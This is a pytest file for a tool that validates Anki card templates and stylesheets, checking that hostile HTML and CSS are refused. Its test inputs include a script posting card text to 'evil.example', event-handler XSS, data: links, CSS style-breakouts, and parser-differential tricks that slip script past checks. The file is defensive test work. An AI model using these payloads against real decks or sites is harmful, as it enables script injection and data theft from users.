"""What a note type gives every student: card templates and CSS pass an allow-list of their own, and
Anki sections that do not nest are errors, each at the template file's line and column."""

from __future__ import annotations

import pytest
from conftest import FIXTURES, make_project
from helpers import replace_in_file


@pytest.fixture
def project(tmp_path):
    folder = make_project(tmp_path / "project", FIXTURES / "golden")
    return folder


def _errors(result) -> list[str]:
    return [line for line in result.stderr.splitlines() if line.startswith(("templates/", "cards/"))]


def test_the_deck_templates_and_a_declared_note_type_pass(tmp_path, run_cli, project):
    assert run_cli("check", "--strict", cwd=project).exit_code == 0
    pharmacology = make_project(tmp_path / "pharmacology", FIXTURES / "pharmacology")
    assert run_cli("check", "--strict", cwd=pharmacology).exit_code == 0


def test_script_and_an_event_handler_in_templates_are_refused_where_written(run_cli, project):
    replace_in_file(project / "templates" / "basic.front.html", '<div class="question">',
                    '<script>fetch("https://evil.example/?" + document.body.innerText)</script>\n'
                    '<div class="question">')
    (project / "templates" / "_notes.html").write_text(
        (project / "templates" / "_notes.html").read_text() + '<img src=x onerror="alert(1)">\n')

    result = run_cli("check", cwd=project)

    assert result.exit_code == 1
    assert _errors(result) == [
        "templates/_notes.html:11:12: <img src=x onerror=\"alert(1)\">: the event handler onerror= runs script in "
        "every student's Anki; remove it",
        "templates/basic.front.html:2:1: <script>: a script runs in every student's Anki; remove it",
    ]


@pytest.mark.parametrize("tag, message", [
    ('<a href="javascript:alert(1)">x</a>', '<a href="javascript:alert(1)">: a link to \'javascript:alert(1)\': a '
     "card may link only to http(s) addresses (javascript: and data: addresses run or show what they hold)"),
    ('<img src="https://evil.example/pixel.png">', "<img src=\"https://evil.example/pixel.png\">: an image from "
     "'https://evil.example/pixel.png': a card may load only the deck's own files; write a media file's plain name "
     "(src=\"_logo.png\")"),
    ('<iframe src="https://evil.example"></iframe>', "<iframe src=\"https://evil.example\">: <iframe> loads another "
     "page or a plug-in into the card; remove it"),
    ("<style>.card{color:red}</style>", "<style>: <style> restyles or loads from elsewhere: put styles in the note "
     "type's stylesheet; remove it"),
    ("<svg onload=alert(1)>", "<svg onload=alert(1)>: <svg> carries script and links of its own; remove it"),
    ("<!-- x -->", "an HTML comment: browsers and parsers disagree on where some end; write a Jinja comment {# … #} "
     "instead"),
    ('<span style="background: url(https://evil.example/x.png)">x</span>',
     '<span style="background: url(https://evil.example/x.png)">: style=: url() to a remote host '
     "(https://evil.example/x.png): a card may load only the deck's own files; write the plain name of a file in the "
     "students' Anki media (url(_font.woff2): a name starting with '_' stays in their media folder)"),
])
def test_what_templates_may_not_hold(tag, message, run_cli, project):
    replace_in_file(project / "templates" / "basic.back.html", "<hr id=\"answer\">", f"<hr id=\"answer\">{tag}")

    result = run_cli("check", cwd=project)

    # at the attribute at fault, or at the element
    at_attribute = any(words in message for words in ("a link to", "an image from", ": style=:"))
    column = 17 + (tag.index(" ") + 1 if at_attribute else 0)
    assert _errors(result) == [f"templates/basic.back.html:2:{column}: {message}"]


REMOTE = ("url() to a remote host (https://evil.example/x.woff): a card may load only the deck's own files; write "
          "the plain name of a file in the students' Anki media (url(_font.woff2): a name starting with '_' stays "
          "in their media folder)")
LESS_THAN = ("'<' in CSS: Anki rewrites '<img … src=' wherever it stands in a card, the stylesheet too, which can "
             "turn a string into a rule that loads from elsewhere; write '<' in a string as \\3c")
END_STYLE = ("'</' in CSS: Anki puts the CSS in a <style> element, which '</style' ends (in a comment or a string "
             "too), and what follows would be HTML; write '<' in a string as \\3c")


@pytest.mark.parametrize("css, expected", [
    ('@font-face { font-family: x; src: url("https://evil.example/x.woff"); }', [f"1:35: {REMOTE}"]),
    (".x { background: u\\72l(https://evil.example/x.woff); }", [f"1:18: {REMOTE}"]),
    ('@import "https://evil.example/x.css";', ["1:1: @import loads another stylesheet: put its rules in this one"]),
    ("/* </style><script>alert(1)</script> */", [f"1:4: {END_STYLE}", f"1:12: {LESS_THAN}", f"1:28: {END_STYLE}"]),
    (".x::after { content: '<\\/STYLE >'; }", [
        "1:23: '<\\/' in CSS: Anki puts the CSS in a <style> element, which '</style' ends (in a comment or a "
        "string too), and what follows would be HTML; write '<' in a string as \\3c"]),
    (".x { width: expression(alert(1)); }", ["1:13: expression() runs script in old browsers"]),
])
def test_what_the_stylesheet_may_not_hold(css, expected, run_cli, project):
    stylesheet = project / "templates" / "style.css"
    lines = stylesheet.read_text().count("\n")
    stylesheet.write_text(stylesheet.read_text() + css + "\n")

    result = run_cli("check", cwd=project)

    assert _errors(result) == [f"templates/style.css:{lines + int(e.split(':')[0])}:{e.split(':', 2)[1]}:"
                               f"{e.split(':', 2)[2]}" for e in expected]


def test_the_deck_own_files_comments_and_strings_may_stand_in_css(run_cli, project):
    stylesheet = project / "templates" / "style.css"
    stylesheet.write_text(stylesheet.read_text() + '@font-face { font-family: x; src: url("_x.woff2"); }\n'
                          "/* url(https://evil.example/x.png) @import script */\n"
                          '.x::after { content: "url(https://evil.example/y.png)"; }\n')

    assert run_cli("check", "--strict", cwd=project).exit_code == 0


@pytest.mark.parametrize("side", ["front", "back"])
def test_a_section_left_open_is_an_error_at_its_line(side, run_cli, project):
    template = project / "templates" / f"basic.{side}.html"
    template.write_text(template.read_text() + '{{ anki.if_field("Extra") }}\n')
    line = template.read_text().count("\n")

    result = run_cli("build", cwd=project)

    assert result.exit_code == 1
    assert _errors(result) == [
        f"templates/basic.{side}.html:{line}:4: section '{{{{#Extra}}}}' is never closed: Anki would show \"template "
        "has a problem\" on every card; close it with {{/Extra}}"]
    assert "Traceback" not in result.stderr


def test_a_section_closed_out_of_order_is_an_error(run_cli, project):
    replace_in_file(project / "templates" / "_context.html",
                    '{{ anki.if_field("Topic") }}<span class="topic">{{ anki.field("Topic") }}</span>'
                    '{{ anki.end_if("Topic") }}',
                    '{{ anki.if_field("Topic") }}{{ anki.if_empty("Extra") }}{{ anki.end_if("Topic") }}'
                    '{{ anki.end_if("Extra") }}')

    result = run_cli("check", cwd=project)

    assert ("templates/_context.html:4:62: '{{/Topic}}' closes '{{^Extra}}', which must be closed with {{/Extra}} "
            "first (sections nest: the last opened closes first)") in _errors(result)


def test_a_declared_note_type_is_held_to_the_same_policy(tmp_path, run_cli):
    project = make_project(tmp_path / "pharmacology", FIXTURES / "pharmacology")
    template = project / "templates" / "drug.class.back.html"
    template.write_text(template.read_text() + '<a href="data:text/html,x" onclick="steal()">more</a>\n')
    line = template.read_text().count("\n")

    result = run_cli("check", cwd=project)

    assert _errors(result) == [
        f"templates/drug.class.back.html:{line}:4: <a href=\"data:text/html,x\" onclick=\"steal()\">: a link to "
        "'data:text/html,x': a card may link only to http(s) addresses (javascript: and data: addresses run or show "
        "what they hold)",
        f"templates/drug.class.back.html:{line}:28: <a href=\"data:text/html,x\" onclick=\"steal()\">: the event "
        "handler onclick= runs script in every student's Anki; remove it",
    ]


def test_the_retired_banner_template_is_held_to_the_policy(run_cli, project):
    (project / "templates" / "retired.html").write_text("<div onmouseover=\"alert(1)\">Retired</div>\n")
    (project / "cards" / "old.yaml").write_text(
        "subdeck: first\ncards:\n  - id: old\n    kind: basic\n    question: Q\n    answer: A\n    retired: true\n")

    result = run_cli("check", cwd=project)

    assert _errors(result) == ["templates/retired.html:1:6: <div onmouseover=\"alert(1)\">: the event handler "
                               "onmouseover= runs script in every student's Anki; remove it"]


def test_allow_template_script_lets_a_script_through_and_says_so_on_every_run(run_cli, project):
    replace_in_file(project / "templates" / "basic.front.html", '<div class="question">',
                    "<script>document.title = 'x';</script>\n<div class=\"question\">")
    assert run_cli("check", "--strict", cwd=project).exit_code == 1
    deck = project / "cards" / "deck.yaml"
    deck.write_text(deck.read_text() + "allow_template_script: true\n")
    line = deck.read_text().count("\n")

    for command in (("check", "--strict"), ("build",)):
        result = run_cli(*command, cwd=project)
        assert result.exit_code == 0, result.stderr
        assert result.stderr.splitlines()[0] == (
            f"cards/deck.yaml:{line}:1: warning: allow_template_script is true: this deck's card templates may run "
            "script in every student's Anki, and every release note says so; set it to false unless a template "
            "truly needs <script>")


def test_release_notes_say_first_that_templates_run_script(tmp_path, run_cli, project):
    assert run_cli("build", cwd=project).exit_code == 0
    before = tmp_path / "before.apkg"
    (project / "build" / "test-1.0.0.apkg").rename(before)
    replace_in_file(project / "templates" / "basic.front.html", '<div class="question">',
                    "<script>document.title = 'x';</script>\n<div class=\"question\">")
    deck = project / "cards" / "deck.yaml"
    deck.write_text(deck.read_text() + "allow_template_script: true\n")
    assert run_cli("build", cwd=project).exit_code == 0

    notes = run_cli("diff", str(before), str(project / "build" / "test-1.0.0.apkg"), cwd=project)

    assert notes.stdout.splitlines()[0] == (
        "**This release's card templates run script** in every student's Anki (`allow_template_script: true` in "
        "cards/deck.yaml).")
    assert "new look (applied automatically)" in notes.stdout
    plain = run_cli("diff", str(before), str(before), cwd=project)
    assert plain.stdout.startswith("# Release notes")


def test_anki_tags_written_as_text_are_checked_like_the_helpers(run_cli, project):
    replace_in_file(project / "templates" / "basic.back.html", '<hr id="answer">',
                    '<hr id="answer">{% raw %}{{text:Answer}} {{Nope}}{% endraw %}')

    result = run_cli("check", cwd=project)

    assert _errors(result) == [
        "templates/basic.back.html:2:26: '{{text:Answer}}' uses Anki's filter 'text', which cards may not use: use "
        "cloze, furigana, hint, kana, kanji, tts, type",
        "templates/basic.back.html:2:42: '{{Nope}}' names 'Nope', which is not a field of the basic note type: use "
        "one of Question, Answer, Extra, Topic, Source, Reference",
        # reverse.back.html includes basic.back.html
        "templates/basic.back.html:2:42: '{{Nope}}' names 'Nope', which is not a field of the reverse note type: use "
        "one of Question, Answer, Extra, Topic, Source, Reference",
    ]


def test_the_preview_says_the_templates_may_run_script(run_cli, project):
    assert "allow_template_script" not in _preview(run_cli, project)
    deck = project / "cards" / "deck.yaml"
    deck.write_text(deck.read_text() + "allow_template_script: true\n")

    assert "templates may run script (allow_template_script; not run in this preview)" in _preview(run_cli, project)


def _preview(run_cli, project) -> str:
    assert run_cli("preview", cwd=project).exit_code == 0
    return (project / "build" / "preview.html").read_text()


# --- what a browser reads, not what Python's parser reads (adversarial review) -------------------

@pytest.mark.parametrize("tag, shown", [
    ('<img alt==" title=x onerror=alert(document.domain) y=z ">',
     '<img alt="="" title="x" onerror="alert(document.doma…" y="z" "="">'),
    ('<img alt=\xa0" title=x onerror=alert(1) ">', '<img alt="\xa0"" title="x" onerror="alert(1)" "="">'),
    ('<a href="https://example.org" title==" onfocus=alert(1) ">x</a>',
     '<a href="https://example.org" title="="" onfocus="alert(1)" "="">'),
])
def test_a_tag_a_browser_reads_otherwise_than_it_is_written_is_refused(tag, shown, run_cli, project):
    replace_in_file(project / "templates" / "basic.back.html", "<hr id=\"answer\">", f"<hr id=\"answer\">{tag}")

    result = run_cli("check", "--strict", cwd=project)

    start = tag[:tag.index('">') + 2]  # the start tag, as written
    assert result.exit_code == 1
    assert _errors(result) == [
        f"templates/basic.back.html:2:17: {start[:59] + '…' if len(start) > 60 else start}: a browser reads this "
        f"tag as {shown}, not as it is written: write each attribute as name=\"value\", separated by plain spaces"]


def test_anki_sound_syntax_made_across_frontside_is_refused(run_cli, project):
    """The front ends in '[' and the back goes on 'sound:…' after {{FrontSide}}: neither side alone
    holds Anki's syntax, the card does; cut out with play buttons hidden, it opened an attribute."""
    front = project / "templates" / "basic.front.html"
    front.write_text(front.read_text().rstrip("\n") + "[\n")
    replace_in_file(project / "templates" / "basic.back.html", "<hr id=\"answer\">",
                    'sound:x.mp3<img alt="&#93;"><hr id="answer">')

    result = run_cli("check", "--strict", cwd=project)

    lines = front.read_text().splitlines()
    assert result.exit_code == 1
    assert _errors(result) == [
        f"templates/basic.front.html:{len(lines)}:{len(lines[-1])}: a '[' in a template: beside a field or a name "
        "Anki fills in, or across {{FrontSide}}, it can make Anki's sound syntax, which with play buttons hidden "
        "opens a tag to script; write it as &#91;"]


def test_a_backslash_before_a_name_anki_fills_in_is_refused(run_cli, project):
    """`\\{{Card}}` with a card template named "(" is a MathJax delimiter no text of the template shows."""
    replace_in_file(project / "templates" / "basic.back.html",
                    "<hr id=\"answer\">", '<hr id="answer">\\{{ anki.field("Card") }}')

    result = run_cli("check", "--strict", cwd=project)

    assert result.exit_code == 1
    assert _errors(result) == [
        "templates/basic.back.html:2:17: a backslash (\\) in a template: MathJax reads it, with a name or field Anki "
        "puts after it, as the start of maths (\\href can run script); write TeX in a card's fields, "
        "where it is checked"]


def test_import_cleans_what_browsers_read_otherwise_brackets_and_backslashes():
    from deckgen.render.templatepolicy import cleaned_template, template_findings

    hostile = '<img alt==" src=x onerror=alert(1) y=z ">{{Front}}[\\{{Card}}'
    cleaned, removed = cleaned_template(hostile)

    assert template_findings(cleaned) == []
    assert "onerror" not in cleaned and "[" not in cleaned and "\\" not in cleaned
    assert "{{Front}}" in cleaned
    assert removed == ("<img> Anki would rewrite", "'['", "a backslash")


# --- what Anki rewrites after the check (second adversarial review) -------------------------------

@pytest.mark.parametrize("tag, message", [
    # What stands after an end tag's name: a field Anki fills in there opens a quote (below).
    ('</b class=x>', "</b class=x>: an end tag holds only its name (</b>): remove the rest"),
    # Anki's media-name escaping finds '<img … src=' as text and eats the quote that closes a value.
    ('<img alt="x src=a" src="_logo.png">', "<img alt=\"x src=a\" src=\"_logo.png\">: 'src=' inside an attribute's "
     "value: Anki rewrites '<img … src=' as text, eating a quote, which turns what follows into HTML; write src&#61;"),
    ('<span title="<img src=q">t</span>', "<span title=\"<img src=q\">: a '<' inside a tag: Anki rewrites the card's "
     "HTML as text, which can end an attribute early; write &lt;"),
    # A typed card's back has '<hr id=answer>' cut out as text.
    ('<span title=a<hr id=answer>t</span>', "<span title=a<hr id=answer>: a '<' inside a tag: Anki rewrites the "
     "card's HTML as text, which can end an attribute early; write &lt;"),
])
def test_a_tag_that_ankis_own_rewriting_would_change_is_refused(tag, message, run_cli, project):
    replace_in_file(project / "templates" / "basic.back.html", "<hr id=\"answer\">", f"<hr id=\"answer\">{tag}")

    result = run_cli("check", "--strict", cwd=project)

    assert result.exit_code == 1
    assert _errors(result)[0] == f"templates/basic.back.html:2:17: {message}"


def test_a_field_anki_fills_into_an_end_tag_is_refused(run_cli, project):
    """A front beginning with a quote, filled in as {{FrontSide}} after `</b x=`, quoted everything up
    to a quote in the next tag and made its title's text an <img onerror> (second adversarial review)."""
    replace_in_file(project / "templates" / "basic.back.html", "<hr id=\"answer\">",
                    '<hr id="answer"></b x={{ anki.front_side() }}> <span title="\' x">end</span>')

    result = run_cli("check", "--strict", cwd=project)

    assert result.exit_code == 1
    assert "</b x={{FrontSide}}>: an end tag holds only its name (</b>): remove the rest" in result.stderr


def test_a_less_than_sign_in_css_is_refused_since_anki_rewrites_img_src_there_too(run_cli, project):
    css = project / "templates" / "style.css"
    css.write_text(css.read_text() + '.x { --a: "<img src=q"; }\n')

    result = run_cli("check", "--strict", cwd=project)

    line = len(css.read_text().splitlines())
    assert result.exit_code == 1
    assert _errors(result) == [
        f"templates/style.css:{line}:12: '<' in CSS: Anki rewrites '<img … src=' wherever it stands in a card, the "
        "stylesheet too, which can turn a string into a rule that loads from elsewhere; write '<' in a string as \\3c"]
